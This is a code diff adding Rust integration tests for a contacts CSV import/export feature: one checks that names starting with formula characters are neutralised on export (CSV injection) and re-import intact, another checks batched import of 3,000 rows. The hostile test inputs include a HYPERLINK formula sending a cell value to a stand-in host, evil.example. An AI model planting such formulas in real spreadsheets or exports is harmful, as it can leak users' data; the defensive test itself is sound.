@@ -388,4 +388,58 @@ async fn import_and_export(mode: Mode) {
     );
 }
 
-both_modes!(import_and_export);
+/// A name a spreadsheet would run as a formula (CWE-1236) is exported as text, and the file
+/// imports back to the same names.
+async fn exports_neutralise_formulas(mode: Mode) {
+    let suite = Suite::start(mode).await;
+    let admin = suite.admin().await;
+    let hostile = [
+        r#"=HYPERLINK("http://evil.example/?x="&A2,"open")"#,
+        "+SUM(1,2)",
+        "-2+3",
+        "@cmd",
+        "＝1+1",
+    ];
+    for name in hostile {
+        admin.create_contact(name).await;
+    }
+    let file = export(&admin, "contact", "", ExportFormat::Csv)
+        .await
+        .unwrap();
+    let text = String::from_utf8(file.clone()).unwrap();
+    for line in text.lines().skip(1) {
+        let first = line.trim_start_matches('"');
+        assert!(
+            !first.starts_with(['=', '+', '-', '@', '＝']),
+            "a live formula: {line}"
+        );
+    }
+    // Another tenant imports the file: the names arrive as they were written.
+    let platform = suite.admin().await;
+    let other = org::other_tenant(&suite, &platform, "formulas").await;
+    let imported = import_csv(&other, &text, 1 << 16, false, DuplicatePolicy::Create).await;
+    assert_eq!(imported.created, hostile.len() as i64, "{imported:?}");
+    let mut names = other.contact_names("").await.unwrap();
+    let mut expected: Vec<String> = hostile.iter().map(|n| n.to_string()).collect();
+    names.sort();
+    expected.sort();
+    assert_eq!(names, expected);
+}
+
+/// Thousands of tiny rows in one message are imported in bounded batches.
+async fn one_large_message_imports_in_batches(mode: Mode) {
+    let suite = Suite::start(mode).await;
+    let admin = suite.admin().await;
+    let mut text = String::from("display_name\r\n");
+    for i in 0..3_000 {
+        text.push_str(&format!("Row {i}\r\n"));
+    }
+    let imported = import_csv(&admin, &text, text.len(), false, DuplicatePolicy::Create).await;
+    assert_eq!((imported.rows, imported.created), (3_000, 3_000));
+}
+
+both_modes!(
+    import_and_export,
+    exports_neutralise_formulas,
+    one_large_message_imports_in_batches
+);
